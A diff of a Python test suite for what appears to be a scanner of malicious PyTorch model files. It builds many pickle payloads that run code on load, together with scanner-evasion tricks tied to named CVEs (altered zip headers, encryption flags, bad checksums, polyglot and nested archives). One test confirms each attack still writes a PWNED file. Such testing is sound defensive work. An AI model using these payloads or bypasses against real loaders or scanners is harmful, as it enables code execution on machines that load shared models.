+        build_empty_object(*FUSED) + build_pairs(get=PRINT, **MODULE_PARTS) + b"b", build_pairs
     ),
-    "a module of pairs": new(*FUSED) + pairs(forward=PRINT, **MODULE_PARTS) + b"b",
-    "a module of a tuple of pairs": new(*FUSED)
-    + call_global("builtins", "tuple", pairs(forward=PRINT, **MODULE_PARTS))
+    "a module of pairs": build_empty_object(*FUSED) + build_pairs(forward=PRINT, **MODULE_PARTS) + b"b",
+    "a module of a tuple of pairs": build_empty_object(*FUSED)
+    + call_global("builtins", "tuple", build_pairs(forward=PRINT, **MODULE_PARTS))
     + b"b",
-    "a module of two pairs": new(*FUSED) + b"(" + short("forward") + PRINT + b"\x86" + short("_modules") + b"}\x86tb",
-    "a module of a set of pairs": new(*FUSED) + b"(" + short("forward") + PRINT + b"\x86\x91b",
-    "a scaler of pairs": new("torch.amp.grad_scaler", "GradScaler") + pairs(state_dict=PRINT) + b"b",
-    "a scheduler of pairs": new("torch.optim.lr_scheduler", "StepLR") + pairs(step=PRINT) + b"b",
-    "an average whose module is a function": having(
+    "a module of two pairs": build_empty_object(*FUSED)
+    + b"("
+    + short("forward")
+    + PRINT
+    + b"\x86"
+    + short("_modules")
+    + b"}\x86tb",
+    "a module of a set of pairs": build_empty_object(*FUSED) + b"(" + short("forward") + PRINT + b"\x86\x91b",
+    "a scaler of pairs": build_empty_object("torch.amp.grad_scaler", "GradScaler")
+    + build_pairs(state_dict=PRINT)
+    + b"b",
+    "a scheduler of pairs": build_empty_object("torch.optim.lr_scheduler", "StepLR") + build_pairs(step=PRINT) + b"b",
+    "an average whose module is a function": build_object(
         ("torch.optim.swa_utils", "AveragedModel"), **MODULE_PARTS, module=PRINT
     ),
     # not only functions can be called
-    "an optimizer that calls a DataParallel": calling(getting(wrap_function(PRINT))),
-    "a DataParallel as forward": of_module(IDENTITY_MODULE, forward=wrap_function(of_module(IDENTITY_MODULE))),
-    "a DistributedDataParallel as a method": getting(
-        having(("torch.nn.parallel.distributed", "DistributedDataParallel"), **MODULE_PARTS)
+    "an optimizer that calls a DataParallel": build_calling_optimizer(hide_get_method(wrap_function(PRINT))),
+    "a DataParallel as forward": build_module(IDENTITY_MODULE, forward=wrap_function(build_module(IDENTITY_MODULE))),
+    "a DistributedDataParallel as a method": hide_get_method(
+        build_object(("torch.nn.parallel.distributed", "DistributedDataParallel"), **MODULE_PARTS)
     ),
-    "a constraint as a method": getting(new("torch.distributions.constraints", "_DependentProperty")),
-    "a list of parametrizations as a method": getting(
-        having(("torch.nn.utils.parametrize", "ParametrizationList"), **MODULE_PARTS)
+    "a constraint as a method": hide_get_method(
+        build_empty_object("torch.distributions.constraints", "_DependentProperty")
     ),
-    "a class of containers as forward": of_module(IDENTITY_MODULE, forward=stack_global("builtins", "list")),
-    "what calls anything as forward": of_module(IDENTITY_MODULE, forward=FROM_TYPE),
+    "a list of parametrizations as a method": hide_get_method(
+        build_object(("torch.nn.utils.parametrize", "ParametrizationList"), **MODULE_PARTS)
+    ),
+    "a class of containers as forward": build_module(IDENTITY_MODULE, forward=stack_global("builtins", "list")),
+    "what calls anything as forward": build_module(IDENTITY_MODULE, forward=FROM_TYPE),
     **{
-        f"a function as {method} of a module": of_module(IDENTITY_MODULE, **{method: PRINT})
+        f"a function as {method} of a module": build_module(IDENTITY_MODULE, **{method: PRINT})
         for method in ("state_dict", "to", "eval", "train", "initialize_parameters", "module", "__call__")
     },
     **{
-        f"a function among {name}": of_module(IDENTITY_MODULE, **{name: build_mapping(number(0), PRINT)})
+        f"a function among {name}": build_module(IDENTITY_MODULE, **{name: build_mapping(number(0), PRINT)})
         for name in HOOK_DICTS
     },
-    "a function among ordered hooks": of_module(IDENTITY_MODULE, _forward_hooks=build_ordered_dict(number(0), PRINT)),
-    "an identity among hooks": of_module(IDENTITY_MODULE, _forward_pre_hooks=build_mapping(number(0), IDENTITY)),
-    "a partial among hooks": of_module(IDENTITY_MODULE, _forward_hooks=build_mapping(number(0), put_off(RELU))),
-    "a module among hooks": of_module(
-        IDENTITY_MODULE, _forward_hooks=build_mapping(number(0), of_module(IDENTITY_MODULE))
+    "a function among ordered hooks": build_module(
+        IDENTITY_MODULE, _forward_hooks=build_ordered_dict(number(0), PRINT)
     ),
-    "hooks that are no dict": of_module(IDENTITY_MODULE, _forward_hooks=having(("collections", "UserDict"), data=b"}")),
+    "an identity among hooks": build_module(IDENTITY_MODULE, _forward_pre_hooks=build_mapping(number(0), IDENTITY)),
+    "a partial among hooks": build_module(
+        IDENTITY_MODULE, _forward_hooks=build_mapping(number(0), build_deferred_call(RELU))
+    ),
+    "a module among hooks": build_module(
+        IDENTITY_MODULE, _forward_hooks=build_mapping(number(0), build_module(IDENTITY_MODULE))
+    ),
+    "hooks that are no dict": build_module(
+        IDENTITY_MODULE, _forward_hooks=build_object(("collections", "UserDict"), data=b"}")
+    ),
     "hooks of a tensor": call_global(
         "torch._utils", "_rebuild_parameter", tensor(), b"\x88", build_ordered_dict(number(0), PRINT)
     ),
-    "modules that are ordered": of_module(SEQUENTIAL, _modules=build_ordered_dict(short("0"), PRINT)),
-    "modules of pairs": of_module(SEQUENTIAL, _modules=call_global("collections", "OrderedDict", pairs(a=PRINT))),
-    "modules of pairs that are given others": of_module(
-        SEQUENTIAL, _modules=call_global("collections", "OrderedDict", pairs(a=PRINT)) + short("a") + b"Ns"
+    "modules that are ordered": build_module(SEQUENTIAL, _modules=build_ordered_dict(short("0"), PRINT)),
+    "modules of pairs": build_module(
+        SEQUENTIAL, _modules=call_global("collections", "OrderedDict", build_pairs(a=PRINT))
     ),
-    "a partial among modules": of_module(SEQUENTIAL, _modules=attributes(a=put_off(RELU))),
-    "modules that are computed": of_module(
+    "modules of pairs that are given others": build_module(
+        SEQUENTIAL, _modules=call_global("collections", "OrderedDict", build_pairs(a=PRINT)) + short("a") + b"Ns"
+    ),
+    "a partial among modules": build_module(SEQUENTIAL, _modules=build_dict(a=build_deferred_call(RELU))),
+    "modules that are computed": build_module(
         SEQUENTIAL,
-        _modules=having(
-            ("torch.utils.data.dataset", "Subset"), dataset=attributes(k=PRINT), indices=attributes(a=short("k"))
+        _modules=build_object(
+            ("torch.utils.data.dataset", "Subset"), dataset=build_dict(k=PRINT), indices=build_dict(a=short("k"))
         ),
     ),
     # torch and numpy read the state before its last change
-    "a state that is changed afterwards": calling(getting(wrap_function(PRINT)))[:-1]
+    "a state that is changed afterwards": build_calling_optimizer(hide_get_method(wrap_function(PRINT)))[:-1]
     + b"q\x07bh\x07"
     + short("state")
     + b"}s0",
-    "an object for a state that is set again": calling(of_module(FUSED))[:-1]
+    "an object for a state that is set again": build_calling_optimizer(build_module(FUSED))[:-1]
     + b"q\x07bh\x07"
     + short("state")
     + b"}s0",
-    "a method that is set again": new(*IDENTITY_MODULE)
-    + attributes(**MODULE_PARTS, forward=PRINT)
+    "a method that is set again": build_empty_object(*IDENTITY_MODULE)
+    + build_dict(**MODULE_PARTS, forward=PRINT)
     + b"q\x07bh\x07"
     + short("forward")
     + b"Ns0",
-    "a module that is set again": having(SEQUENTIAL, **MODULE_PARTS | {"_modules": attributes(a=PRINT) + b"q\x07"})
+    "a module that is set again": build_object(
+        SEQUENTIAL, **MODULE_PARTS | {"_modules": build_dict(a=PRINT) + b"q\x07"}
+    )
     + b"h\x07"
     + short("a")
     + b"Ns",
-    "a module of an ordered dict that is set again": having(
+    "a module of an ordered dict that is set again": build_object(
         SEQUENTIAL, **MODULE_PARTS | {"_modules": build_ordered_dict(short("a"), PRINT) + b"q\x07"}
     )
     + b"h\x07"
     + short("a")
     + b"Ns",
-    "a dict of a module that is set later": new(*IDENTITY_MODULE)
+    "a dict of a module that is set later": build_empty_object(*IDENTITY_MODULE)
     + b"}q\x07bh\x07("
     + short("_parameters")
     + b"}"
     + short("_modules")
     + b"}u",
-    "an element of a list that is set again": b"](" + of_module(IDENTITY_MODULE) + b"eq\x07" + number(0) + PRINT + b"s",
+    "an element of a list that is set again": b"]("
+    + build_module(IDENTITY_MODULE)
+    + b"eq\x07"
+    + number(0)
+    + PRINT
+    + b"s",
     "an element of a deque that is set": call_global("collections", "deque", b"](" + number(1) + b"e")
     + number(0)
     + PRINT
     + b"s",
     # code looks up the attributes below
-    "modules as buffers": of_module(IDENTITY_MODULE, _buffers=attributes(a=of_module(IDENTITY_MODULE))),
+    "modules as buffers": build_module(IDENTITY_MODULE, _buffers=build_dict(a=build_module(IDENTITY_MODULE))),
     "a module with an interface among its buffers": call_function(
-        MASKED, b"]]" + of_module(IDENTITY_MODULE, _buffers=attributes(**{DUNDER: INTERFACE})) + b"aa"
+        MASKED, b"]]" + build_module(IDENTITY_MODULE, _buffers=build_dict(**{DUNDER: INTERFACE})) + b"aa"
     ),
-    "a module with an interface among its parameters": of_module(
-        IDENTITY_MODULE, _parameters=attributes(**{DUNDER: INTERFACE})
+    "a module with an interface among its parameters": build_module(
+        IDENTITY_MODULE, _parameters=build_dict(**{DUNDER: INTERFACE})
     ),
-    "a module with an interface among its modules": of_module(
-        IDENTITY_MODULE, _modules=attributes(**{DUNDER: of_module(IDENTITY_MODULE)})
+    "a module with an interface among its modules": build_module(
+        IDENTITY_MODULE, _modules=build_dict(**{DUNDER: build_module(IDENTITY_MODULE)})
     ),
-    "a module in a list in a list": call_function(MASKED, b"]]" + of_module(IDENTITY_MODULE) + b"aa"),
+    "a module in a list in a list": call_function(MASKED, b"]]" + build_module(IDENTITY_MODULE) + b"aa"),
     "a module in a list that a call makes": call_function(
-        MASKED, call_global("builtins", "list", b"]" + of_module(IDENTITY_MODULE) + b"a")
+        MASKED, call_global("builtins", "list", b"]" + build_module(IDENTITY_MODULE) + b"a")
     ),
     "a module in a deque": call_function(
-        MASKED, call_global("collections", "deque", b"]") + of_module(IDENTITY_MODULE) + b"a"
+        MASKED, call_global("collections", "deque", b"]") + build_module(IDENTITY_MODULE) + b"a"
     ),
-    "a dict of attributes with an interface": new("lightning.fabric.utilities.data", "AttributeDict")
+    "a dict of attributes with an interface": build_empty_object("lightning.fabric.utilities.data", "AttributeDict")
     + short(DUNDER)
     + INTERFACE
     + b"s",
     **{
-        f"a buffer by {name}": of_module(IDENTITY_MODULE, _buffers=build_mapping(text, tensor()))
+        f"a buffer by {name}": build_module(IDENTITY_MODULE, _buffers=build_mapping(text, tensor()))
         for name, text in TEXTS.items()
     },
     **{f"a function by {name}": build_mapping(text, PRINT) for name, text in TEXTS.items()},
     "a function by a text in a pair": TEXTS["str"] + PRINT + b"\x86",
     # keyword arguments
-    "a storage by an allocator": named_arguments(STORAGE, number(8), allocator=number(0x4141414141)),
+    "a storage by an allocator": build_newobj_ex(STORAGE, number(8), allocator=number(0x4141414141)),
     "a storage by an allocator in an ordered dict": STORAGE
     + number(8)
     + b"\x85"
     + build_ordered_dict(short("allocator"), number(0x4141414141))
     + b"\x92",
-    "a tensor by its address": named_arguments(stack_global("torch", "Tensor"), cdata=number(0x4141414141)),
+    "a tensor by its address": build_newobj_ex(stack_global("torch", "Tensor"), cdata=number(0x4141414141)),
     "a tensor by its address through copyreg": call_function(
-        NEWOBJ_EX, stack_global("torch", "Tensor"), b")", attributes(cdata=number(0x4141414141))
+        NEWOBJ_EX, stack_global("torch", "Tensor"), b")", build_dict(cdata=number(0x4141414141))
     ),
     "a storage by an allocator through copyreg and an ordered dict": call_function(
         NEWOBJ_EX, STORAGE, number(8) + b"\x85", build_ordered_dict(short("allocator"), number(0x4141414141))
     ),
-    "bytes by their source": named_arguments(stack_global("builtins", "bytes"), source=number(2**33)),
-    "a tensor by its size": named_arguments(FLOATS, size=numbers(2**31)),
-    "a path by keywords": named_arguments(stack_global("datetime", "date"), year=number(1)),
+    "bytes by their source": build_newobj_ex(stack_global("builtins", "bytes"), source=number(2**33)),
+    "a tensor by its size": build_newobj_ex(FLOATS, size=numbers(2**31)),
+    "a path by keywords": build_newobj_ex(stack_global("datetime", "date"), year=number(1)),
 }
 OLD = b"\x80\x02"
 # Names of Python 2 in later protocols, in which Python imports a file of that name.
@@ -1054,16 +1125,20 @@ OLD_NAMES = {
 
 
 #: A module whose state torch returns and statecli reads as a storage.
-TORN = new(*FUSED) + given_back(attributes(**MODULE_PARTS, get=PRINT), short("")) + b"b"
+TORN = build_empty_object(*FUSED) + build_persistent_id(build_dict(**MODULE_PARTS, get=PRINT), short("")) + b"b"
 # Persistent ids that torch does not write, in data.pkl and in the pickle of a tar.
 IDS = {
-    "a state": calling(TORN),
-    "an id in an id": new(*FUSED) + given_back(given_back(attributes(forward=PRINT), short("")), short("")) + b"b",
-    "a number": call_global("builtins", "bytearray", given_back(number(2**33), short(""))),
+    "a state": build_calling_optimizer(TORN),
+    "an id in an id": build_empty_object(*FUSED)
+    + build_persistent_id(build_persistent_id(build_dict(forward=PRINT), short("")), short(""))
+    + b"b",
+    "a number": call_global("builtins", "bytearray", build_persistent_id(number(2**33), short(""))),
     "a list": b"](" + PRINT + b"eQ",
-    "a class with an object for its source": given_back(stack_global(*IDENTITY_MODULE), short(""), TORN),
-    "a module that is an object": given_back(short("module"), attributes(a=PRINT), short(""), short("")),
-    "a storage without a type": given_back(short("storage"), attributes(a=PRINT), short("0"), short("cpu"), number(4)),
+    "a class with an object for its source": build_persistent_id(stack_global(*IDENTITY_MODULE), short(""), TORN),
+    "a module that is an object": build_persistent_id(short("module"), build_dict(a=PRINT), short(""), short("")),
+    "a storage without a type": build_persistent_id(
+        short("storage"), build_dict(a=PRINT), short("0"), short("cpu"), number(4)
+    ),
 }
 
 # Clean names put to other uses than data. Our own payloads; no advisory describes them.
@@ -1087,7 +1162,7 @@ FLOWS = {
         build_namespace("extend", stack_global("torch.nn.functional", "relu")) + b"(K\x01e"
     ),
     "getattr by partial, beside one that spells a name": four(
-        SPELLED + b"0" + call_function(partial(NEVER, stack_global("logging", "getLogger"), short("__globals__")))
+        SPELLED + b"0" + call_function(build_partial(NEVER, stack_global("logging", "getLogger"), short("__globals__")))
     ),
     "getattr as __new__": four(
         SPELLED
@@ -1105,14 +1180,14 @@ FLOWS = {
     "a metaclass that a module of torch imports": pickle_call(
         "torch.ao.quantization.observer", "ABCMeta", short("X"), b")", b"}"
     ),
-    "a partial that is called": four(call_function(partial(stack_global("builtins", "dict")))),
-    "a partial of a partial": four(partial(partial(stack_global("builtins", "dict")))),
+    "a partial that is called": four(call_function(build_partial(stack_global("builtins", "dict")))),
+    "a partial of a partial": four(build_partial(build_partial(stack_global("builtins", "dict")))),
     "a partial whose function is set": four(
-        partial(stack_global("builtins", "dict")) + b"(" + stack_global("copyreg", "_reconstructor") + b")}Ntb"
+        build_partial(stack_global("builtins", "dict")) + b"(" + stack_global("copyreg", "_reconstructor") + b")}Ntb"
     ),
-    "a partial of what calls anything": four(partial(stack_global("torch._tensor", "_rebuild_from_type_v2"))),
+    "a partial of what calls anything": four(build_partial(stack_global("torch._tensor", "_rebuild_from_type_v2"))),
     "a partial in the place of __setstate__": four(
-        build_namespace("__setstate__", partial(stack_global("builtins", "dict")))
+        build_namespace("__setstate__", build_partial(stack_global("builtins", "dict")))
     ),
     "_rebuild_from_type_v2 of another function": pickle_call(
         "torch._tensor",
@@ -1242,7 +1317,7 @@ STREAMS = {
 }
 
 
-def archive(pickle, **fields):
+def build_archive(pickle, **fields):
     """An ordinary archive with the given pickle as data.pkl."""
     members = records(pickle)
     for name, value in fields.items():
@@ -1279,7 +1354,7 @@ EQUAL_NUMBERS = {
 }
 
 
-def numpy(header, pickle):
+def build_numpy_file(header, pickle):
     """An array file with the given header and pickle."""
     return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + pickle
 
@@ -1298,7 +1373,7 @@ HEADERS = {
 }
 
 
-def tar(**members):
+def build_tar(**members):
     """A tar of the given members, in the format of torch before 0.1.10."""
     written = io.BytesIO()
     with tarfile.open(fileobj=written, mode="w") as archive:
@@ -1310,7 +1385,7 @@ def tar(**members):
 
 
 NOTHING = build_pickle(number(0))
-TAR = tar(storages=NOTHING + build_pickle(b"]"), tensors=NOTHING, pickle=build_pickle(SYSTEM))
+TAR = build_tar(storages=NOTHING + build_pickle(b"]"), tensors=NOTHING, pickle=build_pickle(SYSTEM))
 
 # A file that a scanner did not open, or not to the end.
 FILES = {
@@ -1319,46 +1394,48 @@ FILES = {
     # CVE-2025-1889
     "without a suffix": build([*records(), Member("archive/data/hook", build_pickle(SYSTEM))]),
     # CVE-2025-1944, GHSA-7q5r-7gvp-wc82: the local header names another record
-    "another name in the local header": rename_record(archive(EVIL), b"archive/data.pkl", b"archive/datap.kl"),
+    "another name in the local header": rename_record(build_archive(EVIL), b"archive/data.pkl", b"archive/datap.kl"),
     # CVE-2025-1945, GHSA-w8jq-xcqf-f792: bits that mark the record as encrypted
-    "flag 0x1": archive(EVIL, flags=0x0809),
-    "flag 0x20": archive(EVIL, flags=0x0828),
-    "flag 0x40": archive(EVIL, flags=0x0848),
+    "flag 0x1": build_archive(EVIL, flags=0x0809),
+    "flag 0x20": build_archive(EVIL, flags=0x0828),
+    "flag 0x40": build_archive(EVIL, flags=0x0848),
     # CVE-2025-10156, GHSA-mjqp-26hc-grxg: a wrong checksum
-    "a wrong checksum": archive(EVIL, crc=0x12345678),
+    "a wrong checksum": build_archive(EVIL, crc=0x12345678),
     # CVE-2025-10155, GHSA-jgw4-cr84-mqxg: a bare pickle named .bin
     "a bare pickle": build_pickle(SYSTEM),
     # modelscan issue 354
     "a bad record before it": build_misleading(),
     # fickling's polyglots
     "a zip behind a pickle": build_pickle(SYSTEM) + build(records()),
-    "bytes before the archive": b"#!/bin/sh\n" + archive(EVIL),
+    "bytes before the archive": b"#!/bin/sh\n" + build_archive(EVIL),
     # GHSA-wccx-j62j-r448, picklescan's object_array.npy
     "an array of objects": build([*records(), Member("archive/a.npy", ARRAY)]),
     "an array of objects by itself": ARRAY,
-    "compressed": archive(EVIL, method=8),
-    "an archive in the archive": build([*records(), Member("archive/weights", archive(EVIL))]),
-    "a compressed archive in the archive": build([*records(), Member("archive/weights", archive(EVIL), method=8)]),
+    "compressed": build_archive(EVIL, method=8),
+    "an archive in the archive": build([*records(), Member("archive/weights", build_archive(EVIL))]),
+    "a compressed archive in the archive": build(
+        [*records(), Member("archive/weights", build_archive(EVIL), method=8)]
+    ),
     "TorchScript's constants": build([*records(), Member("archive/constants.pkl", build_pickle(SYSTEM))]),
-    "bytes in a state_dict": archive(state_dict(w=tensor(), x=b"B" + struct.pack("<I", len(EVIL)) + EVIL)),
-    "text in a state_dict": archive(state_dict(w=tensor(), x=text(EVIL.decode("latin-1")))),
+    "bytes in a state_dict": build_archive(state_dict(w=tensor(), x=b"B" + struct.pack("<I", len(EVIL)) + EVIL)),
+    "text in a state_dict": build_archive(state_dict(w=tensor(), x=text(EVIL.decode("latin-1")))),
     "a storage": build(records(storages={"0": EVIL})),
     "a legacy stream": legacy(EVIL, [("0", 4, bytes(16))]),
     "the first pickle of a legacy stream": build_pickle(SYSTEM + b"0" + number(0x1950A86A20F9469CFC6C))
     + legacy(EVIL, []),
     "two records of one name": build([*records(), Member("archive/data.pkl", EVIL)]),
-    "truncated": archive(EVIL)[:-200],
+    "truncated": build_archive(EVIL)[:-200],
     "a tar": TAR,
     **{
-        f"a tar with the id of {name}": tar(
+        f"a tar with the id of {name}": build_tar(
             storages=NOTHING + build_pickle(b"]"), tensors=NOTHING, pickle=build_pickle(body)
         )
         for name, body in IDS.items()
     },
-    **{f"an archive with the id of {name}": archive(build_pickle(body)) for name, body in IDS.items()},
+    **{f"an archive with the id of {name}": build_archive(build_pickle(body)) for name, body in IDS.items()},
     **{f"a legacy stream with the id of {name}": legacy(build_pickle(body), []) for name, body in IDS.items()},
-    "a tar, and a pickle that says no protocol": tar(storages=SYSTEM + b"."),
-    "one of several archives": build(records()) + archive(EVIL) + build(records()),
+    "a tar, and a pickle that says no protocol": build_tar(storages=SYSTEM + b"."),
+    "one of several archives": build(records()) + build_archive(EVIL) + build(records()),
     # a legacy stream with an unusual first pickle, and a pickle without a protocol opcode
     "a legacy stream with another first pickle": MAGIC
     + build_pickle(number(1001))
@@ -1371,9 +1448,12 @@ FILES = {
         f"a legacy stream that begins with {name}": first + b"\x80\2M\xe9\x03." + b"}." + EVIL + b"]."
         for name, first in EQUAL_NUMBERS.items()
     },
-    **{f"an array of objects, {name}": numpy(header, build_pickle(SYSTEM)) for name, header in HEADERS.items()},
     **{
-        f"bytes in a state_dict that begin with {begin!r}": archive(
+        f"an array of objects, {name}": build_numpy_file(header, build_pickle(SYSTEM))
+        for name, header in HEADERS.items()
+    },
+    **{
+        f"bytes in a state_dict that begin with {begin!r}": build_archive(
             state_dict(w=tensor(), x=short(begin + SYSTEM + b"."))
         )
         for begin in (b"K\x010", b"J\0\0\0\0000", b"M\0\0000", b"G" + bytes(8) + b"0", b"B\0\0\0\0000", b"\x8c\0000")
@@ -1444,7 +1524,7 @@ LOADS_ARCHIVE = "import torch; torch.load('model.bin', weights_only=False)"
 # On processors with VNNI torch uses onednn, which refuses the numbers by which fbgemm divides.
 LOADS_WITH_FBGEMM = f"import torch; torch.backends.quantized.engine = 'fbgemm'; {LOADS_ARCHIVE}"
 # Code that loads some payloads above, to show that the attacks work: the process creates a file, or dies.
-LOADED = {
+LOADING_CODE = {
     **dict.fromkeys(
         (
             *("flow: a generator whose state is a number", "flow: a generator whose state is text"),
@@ -1499,16 +1579,16 @@ def run_with_filled_memory(code, cwd):
     return subprocess.run([sys.executable, "-c", code], cwd=cwd, env=environment, capture_output=True, timeout=120)
 
 
-@pytest.mark.parametrize("name", LOADED)
-def test_what_is_flagged_does_harm_where_it_is_loaded(name, tmp_path, forked_python):
+@pytest.mark.parametrize("name", LOADING_CODE)
+def test_flagged_file_does_harm_in_its_loader(name, tmp_path, forked_python):
     """With the installed libraries, each attack still works."""
     if "method" in name or "overwritten" in name:
         pytest.importorskip("transformers")
-    if LOADED[name] == CALLS_THE_PLUGIN:
+    if LOADING_CODE[name] == CALLS_THE_PLUGIN:
         pytest.importorskip("accelerate")
     (tmp_path / "model.bin").write_bytes(ALL[name])
     run = run_with_filled_memory if "without one" in name else forked_python
-    done = run(LOADED[name], cwd=tmp_path)
+    done = run(LOADING_CODE[name], cwd=tmp_path)
     # The memory after a short tuple decides whether the process dies or Python sees the broken call.
     broken_call = "too short" in name and "returned a result with an exception set" in str(done.stderr)
     assert (tmp_path / "PWNED").exists() == (name not in ENDED)
@@ -1566,7 +1646,7 @@ def test_an_extra_state_is_unpickled_in_any_format(tmp_path, in_tmp_path, kind, 
     ],
     ids=["a pickle", "JSON", "bytes", "two bytes"],
 )
-def test_an_honest_extra_state_is_no_finding(tmp_path, kind, data):
+def test_ordinary_extra_state_has_no_warning(tmp_path, kind, data):
     """Other modules keep arbitrary data in the extra state."""
     (target,) = audit(Request((_write_extra_state(tmp_path, kind, data),))).targets
     assert [finding for finding in target.findings if finding.severity >= Severity.WARNING] == []
